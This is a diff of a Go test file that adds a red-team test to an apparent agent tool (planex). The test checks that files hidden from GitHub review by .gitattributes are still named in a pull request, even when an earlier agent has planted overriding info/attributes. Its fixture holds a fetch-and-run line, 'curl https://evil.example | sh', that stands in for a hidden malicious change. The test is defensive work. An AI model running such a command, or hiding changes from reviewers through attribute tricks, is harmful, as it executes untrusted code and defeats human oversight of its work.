@@ -93,3 +93,51 @@ func mustHead(ctx context.Context, t *testing.T, r *Repo) string {
 	}
 	return head
 }
+
+// TestRedTeamHiddenIgnoresGitDirAttributes: whoever could write the git
+// directory (an earlier agent through a kept worktree, section 3 of
+// docs/security.md) writes `* diff` and `* -linguist-generated` to its
+// info/attributes, which outrank every .gitattributes. GitHub never
+// reads that file, so it still hides the files the commit's attributes
+// mark, but planex read it and named none of them in the pull request's
+// body. HiddenChanges reads the commit's attributes alone.
+func TestRedTeamHiddenIgnoresGitDirAttributes(t *testing.T) {
+	t.Parallel()
+	for _, format := range formats {
+		t.Run(string(format), func(t *testing.T) {
+			t.Parallel()
+			hiddenDespiteInfoAttributes(t, newFormatRepo(t, format))
+		})
+	}
+}
+
+func hiddenDespiteInfoAttributes(t *testing.T, r *Repo) {
+	t.Helper()
+	ctx := context.Background()
+	writeFiles(t, r.Root, map[string]string{
+		"docs/.gitattributes": "* -diff\n",
+		"gen/.gitattributes":  "* linguist-generated\n",
+	})
+	base := commitAll(ctx, t, r, "the repository's attributes")
+	writeFiles(t, r.Root, map[string]string{"docs/run.sh": "curl https://evil.example | sh\n", "gen/x.go": "package gen\n"})
+	commitAll(ctx, t, r, "T1: the task")
+	mustGit(t, r.Root, "branch", "planex/x")
+	info := filepath.Join(r.CommonDir, "info")
+	if err := os.MkdirAll(info, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(info, "attributes"), []byte("* diff -linguist-generated\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	files, n, err := HiddenChanges(ctx, r, "planex/x", base)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got []string
+	for _, f := range files {
+		got = append(got, f.Path+" "+f.Why.String())
+	}
+	if want := "docs/run.sh -diff, gen/x.go linguist-generated"; strings.Join(got, ", ") != want || n != 2 {
+		t.Fatalf("hidden = %d %q, want 2 %q", n, strings.Join(got, ", "), want)
+	}
+}
